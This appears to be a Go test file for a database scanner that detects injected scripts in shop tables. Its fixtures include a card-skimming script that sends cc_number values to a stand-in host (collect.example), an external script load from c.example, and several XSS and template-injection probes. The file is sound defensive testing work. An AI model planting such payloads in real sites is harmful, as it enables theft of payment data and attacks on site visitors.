package database

import (
	"fmt"
	"strings"
	"testing"

	"github.com/tillwatch/tillwatch"
)

// unknownShop is one that nobody here knows: what its tables are for can only be read from their names.
func unknownShop(d *testDatabase) {
	d.exec(
		`CREATE TABLE purchases (id INTEGER PRIMARY KEY, buyer_email VARCHAR(200), full_name VARCHAR(200), street VARCHAR(300), remarks TEXT, total INTEGER)`,
		`CREATE TABLE site_blocks (id INTEGER PRIMARY KEY, code VARCHAR(50), html TEXT)`,
	)
	d.insert("purchases", "id, buyer_email, full_name, street, remarks, total", 1, "a@b.example", "O'Brien <3", "＜株式会社＞ 1-2-3", "<山田> Tom & Jerry", 100)
	d.insert("site_blocks", "id, code, html", 1, "head", `<p>Welcome <b>all</b></p>`)
	d.insert("site_blocks", "id, code, html", 2, "foot", `<script>var year = 2026;</script>`)
}

func TestAShopThatNobodyKnows(t *testing.T) {
	t.Parallel()
	eachDialect(t, func(t *testing.T, d *testDatabase) {
		unknownShop(d)
		s := d.look(Config{})
		if len(s.signs) > 0 || len(s.gaps) > 0 {
			t.Errorf("an honest shop: %+v, %+v", s.signs, s.gaps)
		}
		rows := 0
		for _, item := range s.items {
			if item.Kind == "row" {
				rows++
			}
		}
		if rows != 1 {
			t.Errorf("%d rows that do something, want the one with a script: %+v", rows, s.items)
		}
		d.insert("purchases", "id, buyer_email, full_name, street, remarks, total", 2, "Geheim@b.example", "Geheim", "x", `<script src=//c.example/j.js></script>`, 1)
		d.insert("site_blocks", "id, code, html", 3, "pay", `<script>document.querySelector('#pay').addEventListener('click', function () {
			var n = document.querySelector('input[name=cc_number]').value; new Image().src = 'https://collect.example/p.gif?d=' + btoa(n); });</script>`)
		s = d.look(Config{})
		if len(s.signs) != 2 {
			t.Fatalf("%+v", s.signs)
		}
		for _, sign := range s.signs {
			switch sign.Rule {
			case ruleActive:
				if sign.Severity != tillwatch.Critical || sign.Place != d.place+" purchases[id=2].remarks" || sign.Evidence[0].Destination != "//c.example" {
					t.Errorf("%+v", sign)
				}
			case ruleExecutable:
				if sign.Severity < tillwatch.High || sign.Place != d.place+" site_blocks[id=3].html" {
					t.Errorf("%+v", sign)
				}
			default:
				t.Errorf("%+v", sign)
			}
		}
	})
}

func TestTablesAndColumnsOfAnyName(t *testing.T) {
	t.Parallel()
	eachDialect(t, func(t *testing.T, d *testDatabase) {
		q := func(name string) string {
			if d.dialect == mysqlDialect {
				return quoteWith(name, '`')
			}
			return quoteWith(name, '"')
		}
		table, key, column := `customer's "order" `+"`x`"+` ?`, "the key; --", "note $1 ?"
		d.exec(fmt.Sprintf("CREATE TABLE %s (%s INTEGER, %s VARCHAR(40), email VARCHAR(50), %s TEXT, PRIMARY KEY (%s, %s))", q(table), q(key), q("Zweiter"), q(column), q(key), q("Zweiter")))
		for i := range 30 {
			d.exec(fmt.Sprintf("INSERT INTO %s VALUES (%d, 'k%d', 'a@b.example', 'ok')", q(table), i/10, i))
		}
		d.exec(fmt.Sprintf("UPDATE %s SET %s = '<svg onload=alert(1)>' WHERE %s IN ('k9', 'k10', 'k29')", q(table), q(column), q("Zweiter")))
		s := d.look(Config{Batch: 4})
		if len(s.signs) != 3 || len(s.gaps) > 0 {
			t.Fatalf("%+v %+v", s.signs, s.gaps)
		}
	})
}

func TestATableOfAHundredColumns(t *testing.T) {
	t.Parallel()
	eachDialect(t, func(t *testing.T, d *testDatabase) {
		var columns, names []string
		var values []any
		for i := range 100 {
			names = append(names, fmt.Sprintf("note_%d", i))
			columns = append(columns, names[i]+" TEXT")
			values = append(values, "ordinary")
		}
		d.exec("CREATE TABLE entries (id INTEGER PRIMARY KEY, email TEXT, phone TEXT, " + strings.Join(columns, ", ") + ")")
		values[97] = "<img src=x onerror=alert(1)>"
		d.insert("entries", "id, "+strings.Join(names, ", "), append([]any{1}, values...)...)
		s := d.look(Config{})
		if len(s.signs) != 1 || !strings.HasSuffix(s.signs[0].Place, "entries[id=1].note_97") {
			t.Errorf("%+v %+v", s.signs, s.gaps)
		}
	})
}

func TestATableWithoutAKey(t *testing.T) {
	t.Parallel()
	eachDialect(t, func(t *testing.T, d *testDatabase) {
		d.exec("CREATE TABLE contact_form (name VARCHAR(100), email VARCHAR(100), message TEXT)")
		for i := range 50 {
			text := "hello"
			if i == 33 {
				text = "{{7*7}}"
			}
			d.insert("contact_form", "name, email, message", "x", "y", text)
		}
		s := d.look(Config{Batch: 7})
		if len(s.signs) != 1 || len(s.gaps) > 0 {
			t.Errorf("%+v %+v", s.signs, s.gaps)
		}
	})
}

func TestManyRowsAreToldOfTogether(t *testing.T) {
	t.Parallel()
	d := newDatabase(t, sqliteDialect)
	d.exec("CREATE TABLE orders (id INTEGER PRIMARY KEY, email TEXT, note TEXT)")
	for i := range 500 {
		d.insert("orders", "id, note", i+1, fmt.Sprintf("<script>alert(%d)</script>", i))
	}
	s := d.look(Config{})
	if len(s.signs) < maxSingle || len(s.signs) > maxSingle+8 {
		t.Errorf("%d signs", len(s.signs))
	}
	if last := s.signs[len(s.signs)-1]; last.Count != 500 || !strings.HasSuffix(last.Place, " orders.note") {
		t.Errorf("%+v", last)
	}
}
